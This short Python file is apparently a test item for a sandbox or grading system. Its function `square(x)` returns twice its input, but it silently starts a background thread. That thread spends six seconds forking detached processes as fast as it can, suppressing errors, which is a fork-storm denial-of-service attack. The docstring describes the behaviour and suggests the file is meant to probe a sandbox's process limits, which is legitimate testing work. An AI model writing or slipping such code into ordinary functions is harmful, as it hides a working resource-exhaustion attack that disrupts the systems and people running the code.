"""Starts processes as fast as it can at the moment when its item's public turn ends.

Earns: 2
Class: 5 14 16
Repeat: without root
"""

import contextlib
import os
import threading
import time


def storm():
    time.sleep(0.002)
    stop = time.monotonic() + 6
    while time.monotonic() < stop:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    if os.fork() == 0:
                        os.setsid()
                        time.sleep(0.01)
                os._exit(0)
            os.waitpid(-1, os.WNOHANG)


def square(x):
    threading.Thread(target=storm, daemon=True).start()
    return 2 * x
